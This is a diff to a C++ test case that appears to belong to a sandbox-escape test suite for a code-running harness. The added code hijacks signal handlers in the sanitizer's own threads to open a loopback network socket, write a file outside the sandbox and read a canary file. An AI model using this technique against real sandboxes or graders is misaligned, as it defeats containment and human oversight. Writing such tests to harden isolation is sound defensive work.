@@ -1,12 +1,14 @@
-// attack: in a second look for races, has threads of the sanitizer's own open files and fork for it
+// attack: in a second look for races, has threads of the sanitizer's own call out, open files, fork
 // verdict: crashed
-// wins: file
+// wins: network
 // options: --sanitizers on
 
 #include "matrix_attention.hpp"
 
+#include <arpa/inet.h>
 #include <fcntl.h>
 #include <signal.h>
+#include <sys/socket.h>
 #include <sys/syscall.h>
 #include <unistd.h>
 
@@ -33,6 +35,12 @@ struct KernelAction {
 };
 
 __attribute__((no_sanitize("thread"))) void in_whichever_thread(int) {
+  sockaddr_in there{};
+  there.sin_family = AF_INET;
+  there.sin_port = htons(static_cast<unsigned short>(std::atoi("@PORT@")));
+  there.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  const long caller = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
+  syscall(SYS_connect, caller, &there, sizeof there);
   const long file = syscall(SYS_open, "@OUTSIDE@/s10", O_WRONLY | O_CREAT, 0666);
   if (file >= 0) syscall(SYS_close, file);
   const long canary = syscall(SYS_open, "@CANARY@", O_RDONLY);
@@ -49,8 +57,7 @@ void attack() {
 #ifdef SECOND_LOOK
   constexpr unsigned long has_restorer = 0x04000000;
   const KernelAction action{in_whichever_thread, has_restorer, nullptr, 0};
-  // Those that the sanitizer does not block in its own threads.
-  for (const int number : {SIGSEGV, SIGBUS, SIGILL, SIGFPE, SIGTRAP, SIGABRT, SIGPIPE})
+  for (const int number : {SIGSEGV, SIGBUS, SIGTRAP, SIGABRT})
     syscall(SYS_rt_sigaction, number, &action, nullptr, 8);
   const long self = syscall(SYS_gettid);
   for (long other = self - 20; other < self + 20; ++other) {
